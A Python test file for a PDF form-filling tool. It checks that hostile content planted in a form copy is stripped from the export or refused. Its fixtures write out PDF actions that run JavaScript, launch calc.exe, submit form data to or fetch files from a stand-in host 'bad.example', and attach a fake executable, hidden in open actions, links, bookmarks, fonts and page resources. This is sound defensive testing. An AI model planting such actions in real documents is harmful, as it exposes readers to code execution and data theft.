"""What a stranger puts into the copy of the form is refused, or stays behind.

Every case is seen in the copy first, by the same search that then finds nothing in the export.
"""

import io
from collections.abc import Callable

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    Fit,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from focusxl.files.official_pdf import NotPlaced
from focusxl.files.official_pdf.contents import FormContents, PageContents, Shown
from focusxl.files.official_pdf.fill import filled_in
from tests.support.drawn_forms import DrawnBox, drawn_form, found_beside_print, written_on

DRAWN = drawn_form([[DrawnBox("7010"), DrawnBox("7020")]])
WANTED = FormContents(
    "Form X",
    (PageContents(1, frozenset(("7010", "7020")), {"7010": Shown("1,234", "right")}),),
    "Fortune",
    "06/30/26",
)

Change = Callable[[PdfWriter], object]
SCRIPT = {"/S": "/JavaScript", "/JS": TextStringObject("app.launchURL('http://bad.example')")}
LAUNCH = {"/S": "/Launch", "/F": TextStringObject("calc.exe")}
OTHER_FILE = {"/S": "/GoToR", "/F": TextStringObject("\\\\bad.example\\share\\x.pdf"), "/D": "/One"}
EMBEDDED_FILE = {"/S": "/GoToE", "/D": "/One"}
WEB = {"/S": "/URI", "/URI": TextStringObject("http://bad.example")}
SEND = {"/S": "/SubmitForm", "/F": TextStringObject("http://bad.example")}
TAKE = {"/S": "/ImportData", "/F": TextStringObject("\\\\bad.example\\share\\x.fdf")}
RENDITION = {"/S": "/Rendition", "/JS": TextStringObject("app.alert(1)")}
ACTIONS = [SCRIPT, LAUNCH, OTHER_FILE, EMBEDDED_FILE, WEB, SEND, TAKE, RENDITION]


def pdf_of(value: object) -> PdfObject:
    """Give what a test writes as an object of a PDF."""
    match value:
        case PdfObject():
            return value
        case dict():
            return DictionaryObject({NameObject(key): pdf_of(each) for key, each in value.items()})
        case list():
            return ArrayObject([pdf_of(each) for each in value])
        case int():
            return NumberObject(value)
    return NameObject(value)


def rewritten(change: Change, *, compact: bool = False) -> bytes:
    """Give the drawn form with a change made to it; compact, with its objects packed."""
    writer = PdfWriter(io.BytesIO(DRAWN))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return packed(out.getvalue()) if compact else out.getvalue()


def packed(pdf: bytes) -> bytes:
    """Give a PDF whose objects other than streams stand packed in one, as Acrobat writes it."""
    reader = PdfReader(io.BytesIO(pdf))
    plain: list[tuple[int, bytes]] = []
    body = io.BytesIO(b"%PDF-1.7\n")
    body.seek(0, io.SEEK_END)
    offsets: dict[int, int] = {}
    for number in sorted(reader.xref[0]):
        each = reader.get_object(number)
        assert each is not None
        written = io.BytesIO()
        each.write_to_stream(written)
        if b"stream\n" in written.getvalue():
            offsets[number] = body.tell()
            body.write(b"%d 0 obj\n%b\nendobj\n" % (number, written.getvalue()))
        else:
            plain.append((number, written.getvalue()))
    holder, last = max(reader.xref[0]) + 1, max(reader.xref[0]) + 2
    heads, texts = b"", b""
    for number, text in plain:
        heads += b"%d %d " % (number, len(texts))
        texts += text + b" "
    stream = DecodedStreamObject()
    stream.set_data(heads + texts)
    stream = stream.flate_encode()
    stream.update(
        pdf_of({"/Type": "/ObjStm", "/N": len(plain), "/First": len(heads)})  # type: ignore[call-overload]
    )
    offsets[holder] = body.tell()
    body.write(b"%d 0 obj\n" % holder)
    stream.write_to_stream(body)
    body.write(b"\nendobj\n")
    inside = {number: index for index, (number, _) in enumerate(plain)}
    offsets[last] = body.tell()
    rows = b""
    for number in range(last + 1):
        if number in inside:
            rows += b"\x02" + holder.to_bytes(4, "big") + inside[number].to_bytes(2, "big")
        else:
            kind = b"\x01" if number in offsets else b"\x00"
            rows += kind + offsets.get(number, 0).to_bytes(4, "big") + b"\x00\x00"
    body.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n%b"
        b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (last, last + 1, reader.trailer.raw_get("/Root").idnum, len(rows), rows, offsets[last])
    )
    return body.getvalue()


def filled(pdf: bytes) -> bytes:
    out = filled_in(pdf, WANTED)
    assert "1,234" in [each.text for each in written_on(out, 0)]
    return out


def catalog(key: str, value: object) -> Change:
    return lambda writer: writer.root_object.update({NameObject(key): pdf_of(value)})


def on_page(key: str, value: object) -> Change:
    return lambda writer: writer.pages[0].update({NameObject(key): pdf_of(value)})


def linked(action: object, key: str = "/A") -> Change:
    def change(writer: PdfWriter) -> None:
        link = Link(rect=(0, 0, 10, 10), target_page_index=0, fit=Fit.fit())
        del link["/Dest"]
        link[NameObject(key)] = pdf_of(action)
        writer.add_annotation(0, link)

    return change


def attached(writer: PdfWriter) -> None:
    writer.add_attachment("bad.exe", b"MZ" * 100)


def attached_to_the_page(writer: PdfWriter) -> None:
    attached(writer)
    names = writer.root_object["/Names"]["/EmbeddedFiles"]["/Names"]  # type: ignore[index]
    writer.pages[0][NameObject("/AF")] = ArrayObject([names[1]])
    del writer.root_object[NameObject("/Names")]


def a_script_in_what_draws(writer: PdfWriter) -> None:
    """Reached from a font, a look and a picture, where only drawing is looked for."""
    script = writer._add_object(pdf_of(SCRIPT))
    resources = writer.pages[0]["/Resources"].get_object()
    fonts = resources["/Font"].get_object()
    for font in fonts.values():
        font.get_object()[NameObject("/AA")] = script
        font.get_object()[NameObject("/PieceInfo")] = pdf_of({"/Bad": script})
    look = pdf_of({"/Type": "/ExtGState", "/CA": 1, "/A": script, "/Metadata": script})
    resources[NameObject("/ExtGState")] = pdf_of({"/Look": look})
    picture = DecodedStreamObject()
    picture.set_data(b"\x00")
    picture.update(
        pdf_of(  # type: ignore[call-overload]
            {
                **{"/Type": "/XObject", "/Subtype": "/Image", "/Width": 1, "/Height": 1},
                **{"/ColorSpace": "/DeviceGray", "/BitsPerComponent": 8},
                **{"/OC": script, "/AF": [script], "/OpenAction": script},
            }
        )
    )
    resources[NameObject("/XObject")] = pdf_of({"/Picture": writer._add_object(picture)})
    resources[NameObject("/Properties")] = pdf_of({"/Layer": {"/Type": "/OCG", "/AA": script}})


LEFT_BEHIND: dict[str, Change] = {
    **{f"when opened: {action['/S']}": catalog("/OpenAction", action) for action in ACTIONS},
    **{f"of the file: {action['/S']}": catalog("/AA", {"/WC": action}) for action in ACTIONS},
    **{f"of a page: {action['/S']}": on_page("/AA", {"/O": action}) for action in ACTIONS},
    **{f"of a link: {action['/S']}": linked(action) for action in ACTIONS},
    "of a link, elsewhere": linked({"/E": SCRIPT}, "/AA"),
    "one after another": catalog("/OpenAction", {"/S": "/GoTo", "/D": [0], "/Next": [SCRIPT]}),
    "of the file, by name": catalog(
        "/Names", {"/JavaScript": {"/Names": [TextStringObject("bad"), SCRIPT]}}
    ),
    "of a bookmark": catalog(
        "/Outlines", {"/First": {"/Title": TextStringObject("x"), "/A": SCRIPT}}
    ),
    "of a field without a place": catalog(
        "/AcroForm", {"/Fields": [{"/FT": "/Tx", "/AA": SCRIPT}]}
    ),
    "of the order of fields": catalog(
        "/AcroForm", {"/Fields": [], "/CO": [{"/AA": {"/C": SCRIPT}}]}
    ),
    "a file in the file": attached,
    "a file of the page": attached_to_the_page,
    "a collection of files": catalog("/Collection", {"/Type": "/Collection", "/View": "/D"}),
    "what a reader must be able to do": catalog("/Requirements", [{"/S": "/EnableJavaScripts"}]),
    "layers": catalog("/OCProperties", {"/OCGs": [], "/D": {"/AS": [SCRIPT]}}),
    "of a program of its own": on_page("/PieceInfo", {"/Bad": {"/Private": SCRIPT}}),
    "in what draws the page": a_script_in_what_draws,
}


@pytest.mark.parametrize("compact", [False, True], ids=["plain", "packed"])
@pytest.mark.parametrize("change", LEFT_BEHIND.values(), ids=LEFT_BEHIND)
def test_left_behind(change: Change, compact: bool) -> None:
    given = rewritten(change, compact=compact)
    assert found_beside_print(given), "the copy has nothing to be left behind"
    out = filled(given)
    assert found_beside_print(out) == set()
    assert b"bad" not in out
    assert b"calc.exe" not in out
    reader = PdfReader(io.BytesIO(out), strict=True)
    assert set(reader.root_object) == {"/Type", "/Pages"}
    assert "/Info" not in reader.trailer
    assert not reader.attachments
    for page in reader.pages:
        assert set(page) == {
            *("/Type", "/Parent", "/MediaBox", "/CropBox", "/Rotate", "/Resources", "/Contents")
        }


def test_what_nothing_refers_to_is_left_behind() -> None:
    """An object of an older state of the file, which an update only hides."""
    given = rewritten(lambda writer: writer._add_object(pdf_of(SCRIPT)))
    assert b"/JavaScript" in given
    assert b"/JavaScript" not in filled(given + b"\n% /JavaScript\n")


def annotated(subtype: str, **more: object) -> Change:
    def change(writer: PdfWriter) -> None:
        entry = {"/Type": "/Annot", "/Subtype": subtype, "/Rect": [0, 0, 10, 10]}
        writer.pages[0][NameObject("/Annots")] = ArrayObject(
            [writer._add_object(pdf_of(entry | {f"/{key}": each for key, each in more.items()}))]
        )

    return change


def many_fields(writer: PdfWriter) -> None:
    catalog("/AcroForm", {"/Fields": [{"/FT": "/Tx"}] * 20_000})(writer)


def fields_in_a_circle(writer: PdfWriter) -> None:
    field = DictionaryObject({NameObject("/FT"): NameObject("/Tx")})
    reference = writer._add_object(field)
    field[NameObject("/Kids")] = ArrayObject([reference])
    catalog("/AcroForm", {"/Fields": [reference]})(writer)


REFUSED: dict[str, tuple[Change, str]] = {
    "a movie and its script": (annotated("/RichMedia", RichMediaContent={}), "entries or comments"),
    "a screen": (annotated("/Screen", A=RENDITION), "entries or comments"),
    "a movie": (annotated("/Movie"), "entries or comments"),
    "a model": (annotated("/3D"), "entries or comments"),
    "a file as a pin": (annotated("/FileAttachment"), "entries or comments"),
    "a field": (annotated("/Widget", FT="/Tx", AA={"/K": SCRIPT}), "entries or comments"),
    "an interactive form": (
        catalog("/AcroForm", {"/Fields": [], "/XFA": [TextStringObject("template")]}),
        "an interactive form",
    ),
    "a signature": (catalog("/AcroForm", {"/Fields": [], "/SigFlags": 3}), "is signed"),
    "a field that is signed": (
        catalog("/AcroForm", {"/Fields": [{"/Kids": [{"/FT": "/Sig", "/V": {}}]}]}),
        "is signed",
    ),
    "rights of a signature": (catalog("/Perms", {"/DocMDP": {}}), "is signed"),
    "encrypted": (lambda writer: writer.encrypt("", "owner"), "encryption"),
    "encrypted with a password": (lambda writer: writer.encrypt("secret"), "encryption"),
    "too many fields": (many_fields, "cannot be read"),
    "fields in a circle": (fields_in_a_circle, "cannot be read"),
}


@pytest.mark.parametrize(("change", "said"), REFUSED.values(), ids=REFUSED)
def test_refused(change: Change, said: str) -> None:
    with pytest.raises(NotPlaced, match=said) as refused:
        filled_in(rewritten(change), WANTED)
    assert str(refused.value).endswith(".")


def drawn_with(kind: str, value: dict[str, object]) -> Change:
    def change(writer: PdfWriter) -> None:
        writer.pages[0]["/Resources"].get_object()[NameObject(kind)] = pdf_of({"/P": value})  # type: ignore[index]

    return change


def letters_that_are_drawings(writer: PdfWriter) -> None:
    for font in writer.pages[0]["/Resources"]["/Font"].values():  # type: ignore[index]
        font.get_object()[NameObject("/Subtype")] = NameObject("/Type3")


@pytest.mark.parametrize(
    "change",
    [
        drawn_with("/Pattern", {"/PatternType": 1}),
        drawn_with("/Shading", {"/ShadingType": 2}),
        letters_that_are_drawings,
    ],
    ids=["pattern", "shading", "letters"],
)
def test_what_is_drawn_in_a_way_that_is_not_carried_over(change: Change) -> None:
    with pytest.raises(NotPlaced, match="cannot be read"):
        filled_in(rewritten(change), WANTED)


def test_a_page_that_is_drawn_a_thousand_times_over() -> None:
    """A small stream, named so often that reading it would not end."""

    def repeat(writer: PdfWriter) -> None:
        stream = DecodedStreamObject()
        stream.set_data(b"1 0 0 1 0 0 cm\n" * 1000)
        reference = writer._add_object(stream)
        writer.pages[0][NameObject("/Contents")] = ArrayObject([reference] * 1000)

    with pytest.raises(NotPlaced, match="unusually large inside"):
        filled_in(rewritten(repeat), WANTED)
